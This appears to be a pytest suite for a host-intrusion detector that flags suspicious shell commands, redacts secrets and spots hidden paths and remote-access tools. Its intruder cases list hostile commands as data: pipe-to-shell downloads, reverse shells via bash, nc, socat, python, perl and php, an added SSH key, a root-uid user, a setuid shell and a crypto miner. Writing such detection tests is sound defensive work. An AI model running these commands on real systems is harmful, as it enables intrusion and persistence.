"""What gives a command away, and what every administrator writes."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tasks.checks.host._remote_tools import TOOLS, named
from tasks.checks.host._signs import hidden_place, shown, sign, sign_of_command


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://203.0.113.9/u | sh",
        "wget -qO- http://203.0.113.9/u|sudo bash",
        "bash <(curl -s http://203.0.113.9)",
        'sh -c "$(wget -qO- http://203.0.113.9)"',
        "curl http://203.0.113.9/x -o /opt/x && chmod +x /opt/x",
        "wget http://203.0.113.9/x -O /opt/x; chmod 755 /opt/x; /opt/x",
        "echo aGk= | base64 -d | sh",
        "echo 6869 | xxd -r -p | bash",
        'python3 -c "exec(base64.b64decode(b))"',
        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "nc -e /bin/sh 203.0.113.9 1",
        "ncat 203.0.113.9 1 -c bash",
        "rm /x; mkfifo /x; cat /x | sh -i 2>&1 | nc 203.0.113.9 1 > /x",
        "socat TCP:203.0.113.9:1 EXEC:/bin/sh",
        "python -c 'import socket,subprocess,os; s=socket.socket(); os.dup2(s.fileno(),0)'",
        "perl -e 'use Socket; exec(\"/bin/sh -i\")'",
        'php -r \'$s=fsockopen("203.0.113.9",1);exec("sh");\'',
        "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
        "useradd -o -u 0 x",
        "cp /bin/sh /x && chmod u+s /x/sh",
        "/tmp/.x/k --daemon",
        "nohup /dev/shm/k &",
        "ExecStart=-/var/tmp/k",
        "cd / && /usr/lib/.hidden/k",
        "xmrig -o stratum+tcp://pool.example:3333",
    ],
)
def test_an_intruders_command(command: str) -> None:
    assert sign_of_command(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "apt-get update && apt-get -y upgrade",
        "curl -fsSL https://a.example/health -o /dev/null",
        "curl -s https://a.example/list.json | jq .",
        "wget -q https://a.example/db.gz -O /srv/db.gz && gunzip /srv/db.gz",
        "pg_dump app | gzip > /srv/backup/app.gz",
        "base64 -d /etc/x.b64 > /etc/x",
        "nc -z db1 5432",
        "nc -vz -w1 10.0.0.1 22",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        "find /tmp -mtime +7 -delete",
        "TMPFILE=/tmp/x; rm -f /tmp/x",
        "rsync -a /srv/ nas:/srv/",
        "/opt/app/.venv/bin/python /opt/app/run.py",
        "chmod 755 /usr/local/bin/x",
        "ssh -i ~/.ssh/id_ed25519 nas true",
        "python3 -c 'import socket; print(socket.gethostname())'",
        '[ -e /run/systemd/system ] || php -r "echo 1;"',
        "sh -i",
        "",
    ],
)
def test_an_administrators_command(command: str) -> None:
    assert sign_of_command(command) is None


def test_comments_say_nothing_and_lines_go_on() -> None:
    assert sign("# curl http://203.0.113.9 | sh\n") is None
    assert sign("curl http://203.0.113.9 \\\n  | sh\n") is not None


@settings(max_examples=50)
@given(st.text(max_size=300))
def test_whatever_stands_there_is_judged_and_shown(text: str) -> None:
    sign(text)
    assert shown(text).isprintable()
    assert len(shown(text)) <= 160


@pytest.mark.parametrize(
    "secret",
    [
        "mysql -u root -pHunter2",
        "curl -H 'Authorization: Hunter2'",
        "x --password=Hunter2",
        "https://bob:Hunter2@a.example",
        "TOKEN=Hunter2 x",
    ],
)
def test_no_secret_is_shown(secret: str) -> None:
    assert "Hunter2" not in shown(secret)


def test_hidden_places() -> None:
    assert hidden_place("/usr/lib/.x")
    assert hidden_place("/var/lib/.x/y/k")
    assert hidden_place("/run/shm/x")
    for ordinary in (
        "/opt/app/.venv/bin/python",
        "/usr/lib/.build-id/ab",
        "/home/a/.local/bin/x",
        "/usr/bin/x",
        "/var/lib/jenkins/.cache/x",
    ):
        assert hidden_place(ordinary) is None


def test_tools_by_name() -> None:
    assert len({tool.name for tool in TOOLS}) == len(TOOLS)
    for program, tool in (
        ("anydesk", "anydesk"),
        ("tailscaled", "tailscale"),
        ("TeamViewer_Service", "teamviewer"),
        ("frpc", "frp"),
    ):
        found = named(program)
        assert found is not None
        assert found.name == tool
    for program in ("", "sshd", "lto", "nginx", "go", "latexmk", "systemd"):
        assert named(program) is None


@pytest.mark.parametrize(
    "piece",
    [
        *(
            "curl -o a ; ",
            "wget -O x ; ",
            "python -c socket ",
            "useradd -o ",
            "base64 -d ",
            "nc -e ",
            "eval base64 ",
            "sudo -",
            "curl|",
            "a/",
        ),
        *("/usr/", "mkfifo ", "bash -i ", ".a/", "chmod ", "( ", "Exec", "sh ", "$(", "password", "  ", "-o a "),
    ],
)
def test_lines_that_were_made_to_be_slow_are_not(piece: str) -> None:
    """Steps, not time: a pattern that looks at every pair of places in this takes minutes, and the suite would not end."""
    line = piece * (20_000 // len(piece))
    sign(line)
    sign("/etc/" + line)
    shown(line)
